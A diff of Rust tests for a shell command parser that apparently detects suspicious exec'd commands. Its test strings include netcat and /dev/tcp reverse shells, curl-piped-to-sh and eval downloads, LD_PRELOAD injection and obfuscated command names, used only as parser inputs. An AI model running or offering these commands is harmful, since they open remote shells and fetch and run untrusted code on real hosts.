@@ -7,7 +7,7 @@ fn args(words: &[&str]) -> Vec<String> {
 /// [`parse_exec`] with every word copied, so the result outlives the argv (the tests build
 /// argv in temporaries).
 fn parsed(argv: &[String]) -> CommandLine<'static> {
-    fn own(words: Vec<Arg>) -> Vec<Arg<'static>> {
+    fn own(words: Words) -> Words<'static> {
         words
             .into_iter()
             .map(|w| Arg::Owned(w.into_owned()))
@@ -48,7 +48,7 @@ fn programs<'a>(line: &'a CommandLine) -> Vec<&'a str> {
 }
 
 /// The first command running `program`.
-fn find<'a>(line: &'a CommandLine<'a>, program: &str) -> &'a SimpleCommand<'a> {
+fn find<'a, 'w>(line: &'a CommandLine<'w>, program: &str) -> &'a SimpleCommand<'w> {
     line.commands
         .iter()
         .find(|c| c.program() == program)
@@ -68,7 +68,7 @@ fn plain_exec_is_the_only_command() {
     let nc = &line.commands[0];
     assert_eq!(nc.program(), "nc");
     assert_eq!(
-        nc.argv,
+        nc.argv[..],
         args(&["/usr/bin/nc", "-e", "/bin/sh", "example.com", "22"])
     );
     assert_eq!(
@@ -90,7 +90,7 @@ fn curl_piped_to_sh() {
     let line = sh("curl -s http://x/a.sh | sh");
     assert_eq!(programs(&line), ["sh", "curl", "sh"]);
     let curl = &line.commands[1];
-    assert_eq!(curl.argv, args(&["curl", "-s", "http://x/a.sh"]));
+    assert_eq!(curl.argv[..], args(&["curl", "-s", "http://x/a.sh"]));
     assert_eq!((curl.depth, curl.joiner), (1, Joiner::Sequence));
     assert_eq!(
         (line.commands[2].depth, line.commands[2].joiner),
@@ -145,7 +145,7 @@ fn dollar_paren_substitution() {
     assert!(line.commands[1].in_substitution);
     let echo = &line.commands[2];
     assert!(!echo.in_substitution);
-    assert_eq!(echo.argv, args(&["echo", "$(whoami)", "done"]));
+    assert_eq!(echo.argv[..], args(&["echo", "$(whoami)", "done"]));
 }
 
 #[test]
@@ -153,7 +153,7 @@ fn substitution_inside_double_quotes() {
     let line = sh(r#"eval "$(curl -fsSL http://x/i)""#);
     let curl = find(&line, "curl");
     assert!(curl.in_substitution);
-    assert_eq!(curl.argv, args(&["curl", "-fsSL", "http://x/i"]));
+    assert_eq!(curl.argv[..], args(&["curl", "-fsSL", "http://x/i"]));
 }
 
 #[test]
@@ -161,7 +161,10 @@ fn backticks() {
     let line = sh("echo `uname -a` `id`");
     assert_eq!(programs(&line), ["sh", "uname", "id", "echo"]);
     assert!(line.commands[1].in_substitution && line.commands[2].in_substitution);
-    assert_eq!(line.commands[3].argv, args(&["echo", "`uname -a`", "`id`"]));
+    assert_eq!(
+        line.commands[3].argv[..],
+        args(&["echo", "`uname -a`", "`id`"])
+    );
 }
 
 #[test]
@@ -179,7 +182,7 @@ fn process_substitution_feeding_bash() {
     let curl = find(&line, "curl");
     assert!(curl.in_substitution);
     assert_eq!(
-        find(&line, "bash").argv,
+        find(&line, "bash").argv[..],
         args(&["bash", "<(curl -s http://x/a)"])
     );
 }
@@ -194,7 +197,7 @@ fn substitution_in_parameter_default() {
 fn arithmetic_is_not_a_command() {
     let line = sh("echo $((1+2)); ((i++)); id");
     assert_eq!(programs(&line), ["sh", "echo", "id"]);
-    assert_eq!(line.commands[1].argv, args(&["echo", "$((1+2))"]));
+    assert_eq!(line.commands[1].argv[..], args(&["echo", "$((1+2))"]));
 }
 
 #[test]
@@ -205,7 +208,7 @@ fn bash_i_dup_to_dev_tcp() {
         "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
     ]));
     let inner = &line.commands[1];
-    assert_eq!(inner.argv, args(&["bash", "-i"]));
+    assert_eq!(inner.argv[..], args(&["bash", "-i"]));
     assert_eq!(
         inner.redirects,
         vec![
@@ -227,7 +230,7 @@ fn bash_i_dup_to_dev_tcp() {
 fn read_write_redirect_with_fd() {
     let line = sh("sh -i 5<> /dev/tcp/1.2.3.4/80");
     let inner = &line.commands[1];
-    assert_eq!(inner.argv, args(&["sh", "-i"]));
+    assert_eq!(inner.argv[..], args(&["sh", "-i"]));
     assert_eq!(
         inner.redirects,
         vec![Redirect {
@@ -261,14 +264,14 @@ fn every_redirect_operator() {
             (Some(3), ReadWrite, "rw"),
         ]
     );
-    assert_eq!(line.commands[1].argv, args(&["c"]));
+    assert_eq!(line.commands[1].argv[..], args(&["c"]));
 }
 
 #[test]
 fn exec_builtin_with_only_redirects_stays_exec() {
     let line = sh("exec 5<>/dev/tcp/10.0.0.1/80; cat <&5 | while read l; do $l 2>&5 >&5; done");
     let exec = &line.commands[1];
-    assert_eq!(exec.argv, args(&["exec"]));
+    assert_eq!(exec.argv[..], args(&["exec"]));
     assert_eq!(exec.redirects[0].target, "/dev/tcp/10.0.0.1/80");
     assert_eq!(exec.redirects[0].op, RedirectOp::ReadWrite);
     assert_eq!(programs(&line), ["sh", "exec", "cat", "read", "$l"]);
@@ -278,7 +281,7 @@ fn exec_builtin_with_only_redirects_stays_exec() {
 #[test]
 fn exec_wrapper_is_unwrapped() {
     let line = sh("exec -a x nc -l 1");
-    assert_eq!(line.commands[1].argv, args(&["nc", "-l", "1"]));
+    assert_eq!(line.commands[1].argv[..], args(&["nc", "-l", "1"]));
     assert_eq!(line.commands[1].wrappers, ["exec"]);
 }
 
@@ -286,13 +289,13 @@ fn exec_wrapper_is_unwrapped() {
 fn single_quotes_keep_operators() {
     let line = sh("echo 'a | b'");
     assert_eq!(line.commands.len(), 2);
-    assert_eq!(line.commands[1].argv, args(&["echo", "a | b"]));
+    assert_eq!(line.commands[1].argv[..], args(&["echo", "a | b"]));
 }
 
 #[test]
 fn double_quotes_inside_sh_c() {
     let line = parsed(&args(&["sh", "-c", "echo 'a | b'"]));
-    assert_eq!(line.commands[1].argv, args(&["echo", "a | b"]));
+    assert_eq!(line.commands[1].argv[..], args(&["echo", "a | b"]));
 }
 
 #[test]
@@ -300,7 +303,7 @@ fn separator_inside_double_quotes_does_not_split() {
     let line = sh(r#"echo "a;b" "c && d" x\;y"#);
     assert_eq!(line.commands.len(), 2);
     assert_eq!(
-        line.commands[1].argv,
+        line.commands[1].argv[..],
         args(&["echo", "a;b", "c && d", "x;y"])
     );
 }
@@ -308,20 +311,20 @@ fn separator_inside_double_quotes_does_not_split() {
 #[test]
 fn double_quote_escapes() {
     let line = sh(r#"echo "a\"b\$c\\d\e""#);
-    assert_eq!(line.commands[1].argv, args(&["echo", r#"a"b$c\d\e"#]));
+    assert_eq!(line.commands[1].argv[..], args(&["echo", r#"a"b$c\d\e"#]));
 }
 
 #[test]
 fn ansi_c_quoting_decodes() {
     let line = sh(r"$'\x63url' $'\143url' $'a\tb\u00e9'");
-    assert_eq!(line.commands[1].argv, args(&["curl", "curl", "a\tbé"]));
+    assert_eq!(line.commands[1].argv[..], args(&["curl", "curl", "a\tbé"]));
 }
 
 #[test]
 fn comments_are_skipped() {
     let line = sh("id # ; rm -rf /\nuname a#b");
     assert_eq!(programs(&line), ["sh", "id", "uname"]);
-    assert_eq!(line.commands[2].argv, args(&["uname", "a#b"]));
+    assert_eq!(line.commands[2].argv[..], args(&["uname", "a#b"]));
 }
 
 #[test]
@@ -337,7 +340,7 @@ fn nested_shell_strings() {
     let depths: Vec<u8> = line.commands.iter().map(|c| c.depth).collect();
     assert_eq!(depths, [0, 1, 2]);
     assert_eq!(
-        line.commands[2].argv,
+        line.commands[2].argv[..],
         args(&["nc", "-e", "/bin/sh", "h", "1"])
     );
 }
@@ -361,7 +364,7 @@ fn quote(s: &str) -> String {
 fn env_assignments_and_options() {
     let line = parsed(&args(&["env", "LD_PRELOAD=/tmp/x.so", "ls"]));
     let ls = &line.commands[0];
-    assert_eq!(ls.argv, args(&["ls"]));
+    assert_eq!(ls.argv[..], args(&["ls"]));
     assert_eq!(
         ls.assignments,
         [("LD_PRELOAD".to_string(), "/tmp/x.so".to_string())]
@@ -387,21 +390,21 @@ fn env_assignments_and_options() {
 #[test]
 fn env_alone_is_the_program() {
     let line = parsed(&args(&["env", "A=1"]));
-    assert_eq!(line.commands[0].argv, args(&["env", "A=1"]));
+    assert_eq!(line.commands[0].argv[..], args(&["env", "A=1"]));
     assert!(line.commands[0].wrappers.is_empty());
 }
 
 #[test]
 fn env_split_string() {
     let line = parsed(&args(&["env", "-S", "nc -lp 4444"]));
-    assert_eq!(line.commands[0].argv, args(&["nc", "-lp", "4444"]));
+    assert_eq!(line.commands[0].argv[..], args(&["nc", "-lp", "4444"]));
 }
 
 #[test]
 fn shell_assignments_before_command() {
     let line = sh("LD_PRELOAD=/dev/shm/x.so A=\"b c\" ls; X=1");
     let ls = &line.commands[1];
-    assert_eq!(ls.argv, args(&["ls"]));
+    assert_eq!(ls.argv[..], args(&["ls"]));
     assert_eq!(
         ls.assignments,
         [
@@ -416,14 +419,14 @@ fn shell_assignments_before_command() {
 #[test]
 fn quoted_name_is_not_an_assignment() {
     let line = sh("'A=1' x");
-    assert_eq!(line.commands[1].argv, args(&["A=1", "x"]));
+    assert_eq!(line.commands[1].argv[..], args(&["A=1", "x"]));
 }
 
 #[test]
 fn busybox_applet() {
     let line = parsed(&args(&["busybox", "nc", "10.0.0.1", "4444", "-e", "sh"]));
     assert_eq!(
-        line.commands[0].argv,
+        line.commands[0].argv[..],
         args(&["nc", "10.0.0.1", "4444", "-e", "sh"])
     );
     assert_eq!(line.commands[0].wrappers, ["busybox"]);
@@ -435,7 +438,7 @@ fn chained_wrappers_outermost_first() {
         "timeout", "10", "nohup", "nice", "-n", "5", "nc", "-e", "/bin/sh", "h", "1",
     ]));
     let nc = &line.commands[0];
-    assert_eq!(nc.argv, args(&["nc", "-e", "/bin/sh", "h", "1"]));
+    assert_eq!(nc.argv[..], args(&["nc", "-e", "/bin/sh", "h", "1"]));
     assert_eq!(nc.wrappers, ["timeout", "nohup", "nice"]);
 }
 
@@ -469,7 +472,7 @@ fn wrapper_options_with_arguments() {
     ];
     for (argv, wrappers) in cases {
         let line = parsed(&args(argv));
-        assert_eq!(line.commands[0].argv, args(&["id"]), "{argv:?}");
+        assert_eq!(line.commands[0].argv[..], args(&["id"]), "{argv:?}");
         assert_eq!(line.commands[0].wrappers, args(wrappers), "{argv:?}");
     }
 }
@@ -486,7 +489,7 @@ fn wrappers_without_a_command_are_programs() {
     ] {
         let line = parsed(&args(argv));
         assert!(line.commands[0].wrappers.is_empty(), "{argv:?}");
-        assert_eq!(line.commands[0].argv, args(argv));
+        assert_eq!(line.commands[0].argv[..], args(argv));
     }
 }
 
@@ -741,7 +744,7 @@ fn deeply_nested_backticks_and_parameters() {
 #[test]
 fn unbalanced_quotes_read_to_the_end() {
     let line = sh("echo 'abc | id");
-    assert_eq!(line.commands[1].argv, args(&["echo", "abc | id"]));
+    assert_eq!(line.commands[1].argv[..], args(&["echo", "abc | id"]));
     let line = sh("echo \"abc $(id");
     assert_eq!(programs(&line), ["sh", "id", "echo"]);
     let line = sh("echo `id");
@@ -751,11 +754,11 @@ fn unbalanced_quotes_read_to_the_end() {
 #[test]
 fn lone_backslash_and_stray_operators() {
     let line = sh("\\");
-    assert_eq!(line.commands[1].argv, args(&["\\"]));
+    assert_eq!(line.commands[1].argv[..], args(&["\\"]));
     let line = sh(") ) ;; | && esac fi done } >");
     assert!(!line.commands.is_empty());
     let line = sh("echo \\\nx");
-    assert_eq!(line.commands[1].argv, args(&["echo", "x"]));
+    assert_eq!(line.commands[1].argv[..], args(&["echo", "x"]));
 }
 
 #[test]
